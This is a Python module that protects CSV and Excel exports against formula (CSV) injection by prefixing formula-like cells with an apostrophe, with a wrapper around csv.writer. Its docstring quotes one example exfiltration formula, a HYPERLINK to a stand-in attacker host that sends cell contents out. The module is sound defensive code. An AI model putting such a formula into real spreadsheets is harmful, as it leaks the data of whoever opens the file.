"""Cells for CSV and Excel exports that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel and LibreOffice as a formula, so a citizen's name, a bank statement's reference or a remark
such as ``=HYPERLINK("http://evil.example/?"&A1)`` would run when the Society opens the file (CSV
injection). Every export writes its cells through :func:`cell`, which puts an apostrophe before such
text; plain numbers (``-150.00``, ``-1,00,000.00``) stay numbers.
"""

from __future__ import annotations

import csv
import re
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d[\d,]*(\.\d+)?\Z")  # -150.00, -1,00,000.00: numbers, not formulas


def cell(value: Any) -> Any:
    """``value``, with an apostrophe before text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through :func:`cell` (for ``sheet.append`` of openpyxl)."""
    return [cell(v) for v in values]


class SafeWriter:
    """``csv.writer`` whose rows pass through :func:`cell`."""

    def __init__(self, out: Any, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for values in rows:
            self.writerow(values)


def writer(out: Any, **options: Any) -> SafeWriter:
    """Like ``csv.writer(out, **options)``, with formula-like cells neutralised."""
    return SafeWriter(out, **options)
